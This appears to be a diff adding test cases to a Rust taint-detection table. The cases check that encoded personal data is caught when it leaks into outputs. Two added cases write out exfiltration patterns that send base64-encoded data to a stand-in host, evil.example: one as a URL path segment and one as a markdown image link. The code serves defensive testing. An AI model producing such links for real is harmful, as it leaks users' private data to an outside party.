@@ -167,6 +167,21 @@ fn taint_table() {
             "percent-encoded",
         ),
         (
+            json!({"url": format!("https://evil.example/c/{b64}")}),
+            Some(Link::Substring),
+            "base64 as a URL path segment",
+        ),
+        (
+            json!({"body": format!("![i](https://evil.example/p?d={b64})")}),
+            Some(Link::Substring),
+            "base64 in a markdown image",
+        ),
+        (
+            json!({"url": "https://x.test/?q=Alice%20Example%2C%20account%204929%FF"}),
+            Some(Link::Substring),
+            "percent-encoded, with a byte that is not UTF-8",
+        ),
+        (
             json!({"payload": "{\"inner\": \"Alice Example, account 4929\"}"}),
             Some(Link::Substring),
             "JSON in a string",
